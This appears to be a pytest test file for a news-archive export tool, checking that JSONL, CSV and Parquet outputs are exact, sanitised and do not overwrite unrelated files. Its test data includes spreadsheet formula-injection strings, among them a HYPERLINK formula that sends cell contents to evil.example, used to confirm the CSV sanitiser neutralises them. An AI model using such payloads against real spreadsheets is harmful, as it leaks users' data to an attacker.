"""What is handed on: exact where a program reads it, safe where a spreadsheet does, whole or not there."""

from __future__ import annotations

import csv
import gzip
import hashlib
import json
import os
import subprocess
import sys
from dataclasses import replace
from datetime import timedelta
from pathlib import Path

import duckdb
import pytest

from tests.warehouse.conftest import NOON, Mill, article
from warehouse.connect import writing
from warehouse.errors import InTheWay, NothingPublished
from warehouse.export import MARK, Selection, export
from warehouse.spreadsheet import BIDI, FORMULA, safe_cell

# What consumers use, in an environment of its own: made by `make test`
CONSUMERS = Path(sys.prefix) / "consumers" / "bin"

NAUGHTY = (
    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "+1+1",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
    "＝1+1",
    "\u202e=1+1",
    'He said "no", and; left\nthe room',
    "اجتمع المجلس\u200f يوم الثلاثاء",
    "می\u200cخواهم",
    "👩‍👩‍👧 family",
    "'quoted",
    "null",
    "",
)


@pytest.fixture(scope="module")
def published(tmp_path_factory: pytest.TempPathFactory) -> Path:
    folder = tmp_path_factory.mktemp("published")
    path = folder / "newsmill.duckdb"
    with writing(path) as db:
        mill = Mill(db, folder)
        rows = [article(f"n{i}", f"Text {i}. {text}", title=text or "none", authors=(text, "B")) for i, text in enumerate(NAUGHTY)]
        mill.load(*rows)
        dated = [article("old", published_at=NOON - timedelta(days=400)), article("new", published_at=NOON)]
        mill.load(*dated, replace(article("other"), outlet="other", article_id="other:1"))
    return path


def test_json_lines_are_exact(published: Path, tmp_path: Path) -> None:
    done = export(published, tmp_path / "a.jsonl", "jsonl")
    rows = [json.loads(line) for line in (tmp_path / "a.jsonl").read_text(encoding="utf-8").splitlines()]
    assert done.articles == len(rows) == len(NAUGHTY) + 3 and done.bytes == (tmp_path / "a.jsonl").stat().st_size
    by_url = {row["url"]: row for row in rows}
    for i, text in enumerate(NAUGHTY):
        assert by_url[f"n{i}"]["title"] == (text or "none") and by_url[f"n{i}"]["authors"] == [text, "B"]
        assert by_url[f"n{i}"]["text_sha256"] == hashlib.sha256(by_url[f"n{i}"]["text"].encode()).hexdigest()
    assert by_url["new"]["published_at"] == "2026-11-01T12:00:00Z" and by_url["n1"]["published_at"] is None


def test_json_lines_are_packed_when_the_name_says_so(published: Path, tmp_path: Path) -> None:
    export(published, tmp_path / "a.jsonl.gz", "jsonl")
    with gzip.open(tmp_path / "a.jsonl.gz", "rt", encoding="utf-8") as lines:
        assert len([json.loads(line) for line in lines]) == len(NAUGHTY) + 3


def test_csv_holds_no_formula_and_turns_nothing_around(published: Path, tmp_path: Path) -> None:
    export(published, tmp_path / "a.csv", "csv")
    with (tmp_path / "a.csv").open(encoding="utf-8", newline="") as lines:
        rows = {row["url"]: row for row in csv.DictReader(lines)}
    for row in rows.values():
        for name, cell in row.items():
            assert not cell.lstrip().startswith(("=", "+", "-", "@", "\t", "\r", "＝")), (name, cell)
            assert not set(cell) & set("\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069")
    for i, text in enumerate(NAUGHTY):
        assert rows[f"n{i}"]["title"] == safe_cell(text or "none")
        assert rows[f"n{i}"]["authors"] == safe_cell(f"{text}; B")
    assert rows["n10"]["title"] == NAUGHTY[10] and rows["n11"]["title"] == NAUGHTY[11], "marks and joiners are spelling"


@pytest.mark.parametrize("text", [*NAUGHTY, "plain", "1 = 1", " spaced", "\n=1", "＋1", "－1", "＠x"])
def test_python_and_duckdb_agree_on_what_is_safe(text: str) -> None:
    sql = "SELECT regexp_replace($text, $bidi, '', 'g') AS plain, regexp_matches(plain, $formula)"
    plain, is_formula = duckdb.execute(sql, {"text": text, "bidi": BIDI, "formula": FORMULA}).fetchall()[0]
    assert safe_cell(text) == (f"'{plain}" if is_formula else plain)


def test_parquet_is_filed_by_outlet_and_month_and_read_back_as_one_table(published: Path, tmp_path: Path) -> None:
    done = export(published, tmp_path / "corpus", "parquet")
    names = {path.relative_to(tmp_path / "corpus").parts[:3] for path in (tmp_path / "corpus").rglob("*.parquet")}
    assert ("data", "outlet=other", "month=2026-11") in names and ("data", "outlet=demo", "month=2025-09") in names
    assert done.files == len(list((tmp_path / "corpus").rglob("*.parquet"))) + 1
    with duckdb.connect(published, read_only=True) as db:
        db.execute("SET TimeZone = 'UTC'")
        there = f"read_parquet('{tmp_path}/corpus/data/**/*.parquet', hive_partitioning = false)"
        kinds = dict(row[:2] for row in db.execute(f"DESCRIBE FROM {there}").fetchall())
        promised = dict(row[:2] for row in db.execute("DESCRIBE articles").fetchall())
        assert kinds == {**promised, "text_sha256": "VARCHAR", "month": "VARCHAR"}
        columns = ", ".join(promised)
        query = f"SELECT count(*) FROM (SELECT {columns} FROM articles EXCEPT ALL SELECT {columns} FROM {there})"
        assert db.execute(query).fetchall() == [(0,)]


def test_the_parquet_folder_is_laid_out_as_hugging_face_reads_it(published: Path, tmp_path: Path) -> None:
    """`datasets.load_dataset(folder)` takes the patterns of the card's `configs`: read by hand here, by the library below."""
    export(published, tmp_path / "corpus", "parquet")
    card = (tmp_path / "corpus" / "README.md").read_text(encoding="utf-8")
    _, front, body = card.split("---\n", 2)
    assert 'path: "data/**/*.parquet"' in front and "split: train" in front and "config_name: default" in front
    assert f"{len(NAUGHTY) + 3} articles" in body and "demo, other" in body and "`published_at`" in body and "{" not in front
    assert list((tmp_path / "corpus").glob("data/**/*.parquet"))


def test_hugging_face_loads_the_parquet_folder(published: Path, tmp_path: Path) -> None:
    export(published, tmp_path / "corpus", "parquet")
    code = "import datasets; print(datasets.load_dataset('corpus', split='train', cache_dir='cache').num_rows)"
    env = {**os.environ, "HF_HUB_OFFLINE": "1", "HF_HOME": str(tmp_path / "home")}
    done = subprocess.run([CONSUMERS / "python", "-c", code], capture_output=True, text=True, check=False, cwd=tmp_path, env=env)
    assert done.stdout.split() == [str(len(NAUGHTY) + 3)], done.stderr


@pytest.mark.parametrize("form", ["jsonl", "csv", "parquet"])
def test_without_text_none_of_the_outlets_words_go_but_the_headline(published: Path, tmp_path: Path, form: str) -> None:
    export(published, tmp_path / "out", form, Selection(is_text_left_out=True))  # type: ignore[arg-type]
    read = {"jsonl": "read_json", "csv": "read_csv", "parquet": "read_parquet"}[form]
    where = f"{tmp_path}/out/data/**/*.parquet" if form == "parquet" else f"{tmp_path}/out"
    names = {row[0] for row in duckdb.execute(f"DESCRIBE FROM {read}('{where}')").fetchall()}
    assert not names & {"text", "summary"} and {"title", "url", "text_sha256", "word_count"} <= names


def test_only_what_is_asked_for_is_written(published: Path, tmp_path: Path) -> None:
    since = export(published, tmp_path / "since.jsonl", "jsonl", Selection(since=NOON))
    assert since.articles == len(NAUGHTY) + 2, "without a date of its own an article is as old as its first sight"
    outlet = export(published, tmp_path / "outlet.jsonl", "jsonl", Selection(outlets=("other",)))
    assert outlet.articles == 1
    none = export(published, tmp_path / "none.jsonl", "jsonl", Selection(outlets=("nobody",)))
    assert none.articles == 0 and (tmp_path / "none.jsonl").read_bytes() == b""


@pytest.mark.parametrize(("form", "name"), [("jsonl", "a.jsonl"), ("jsonl", "a.jsonl.gz"), ("csv", "a.csv"), ("parquet", "corpus")])
def test_an_earlier_export_is_replaced(published: Path, tmp_path: Path, form: str, name: str) -> None:
    for selection in (Selection(), Selection(outlets=("other",), is_text_left_out=True), Selection()):
        export(published, tmp_path / name, form, selection)  # type: ignore[arg-type]
    assert [entry.name for entry in tmp_path.iterdir()] == [name]


@pytest.mark.parametrize("form", ["jsonl", "csv", "parquet"])
def test_what_is_not_ours_is_not_overwritten(published: Path, tmp_path: Path, form: str) -> None:
    (tmp_path / "letter.txt").write_text("Dear all,")
    (tmp_path / "folder").mkdir()
    (tmp_path / "folder" / "README.md").write_text(MARK)
    (tmp_path / "folder" / "thesis.tex").write_text("x")
    (tmp_path / "link").symlink_to(tmp_path / "letter.txt")
    for name in ("letter.txt", "folder", "link", "nowhere/a"):
        with pytest.raises(InTheWay, match="is not overwritten"):
            export(published, tmp_path / name, form)  # type: ignore[arg-type]
    assert (tmp_path / "letter.txt").read_text() == "Dear all," and (tmp_path / "folder" / "thesis.tex").exists()


def test_nothing_published_is_said(tmp_path: Path) -> None:
    with pytest.raises(NothingPublished):
        export(tmp_path / "none.duckdb", tmp_path / "a.csv", "csv")


FULL = """
import resource, signal, sys
from pathlib import Path
from warehouse.errors import WarehouseFull
from warehouse.export import export
signal.signal(signal.SIGXFSZ, signal.SIG_IGN)
resource.setrlimit(resource.RLIMIT_FSIZE, (2000, 2000))
for form in ("jsonl", "csv", "parquet"):
    try:
        export(Path(sys.argv[1]), Path(sys.argv[2]) / f"out.{form}", form)
    except WarehouseFull as error:
        print("full:", error)
"""


def test_no_space_leaves_nothing_behind_and_the_earlier_export_as_it_was(published: Path, tmp_path: Path) -> None:
    export(published, tmp_path / "out.jsonl", "jsonl")
    before = (tmp_path / "out.jsonl").read_bytes()
    done = subprocess.run([sys.executable, "-c", FULL, published, tmp_path], capture_output=True, text=True, check=False)
    assert done.stdout.count("full:") == 3, done.stdout + done.stderr
    assert [entry.name for entry in tmp_path.iterdir()] == ["out.jsonl"] and (tmp_path / "out.jsonl").read_bytes() == before
